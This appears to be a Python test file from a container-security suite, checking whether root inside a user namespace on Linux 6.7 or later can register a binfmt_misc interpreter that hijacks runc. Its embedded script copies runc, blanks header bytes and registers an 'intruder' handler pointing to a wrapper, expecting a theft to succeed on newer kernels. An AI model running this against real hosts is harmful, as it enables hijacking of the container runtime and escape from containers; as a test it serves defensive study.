"""Names an interpreter for runc: from Linux 6.7 on, root of a user namespace may (binfmt_misc).

No file is replaced and no mount covers another. It must be seen; an older kernel must refuse.
"""

import platform

from tests.attacks.other_runc import STEALS, WRAPPER

NAMES = r"""
import shutil
import subprocess

make_wrapper(2)
with open(shutil.which("runc"), "rb") as file:
    program = bytearray(file.read())
magic = "".join(f"\\x{byte:02x}" for byte in program[40:48])
program[40:48] = bytes(8)  # where its section headers are, which nobody needs to run it
with open("/tmp/real", "wb") as file:
    file.write(program)
os.chmod("/tmp/real", 0o755)
os.mkdir("/tmp/formats")
subprocess.run(["mount", "-t", "binfmt_misc", "none", "/tmp/formats"])
try:
    with open("/tmp/formats/register", "w") as file:
        file.write(f":intruder:M:40:{magic}::/tmp/wrapper:")
except OSError as error:
    print("refused:", error.strerror)
"""

exercise = "print_the_word"
cells = [WRAPPER, NAMES, STEALS]
if tuple(map(int, platform.release().split(".")[:2])) >= (6, 7):
    prints = "stolen True"
    status = "did not run"
    says = "an interpreter was named"
else:
    prints = "stolen False"
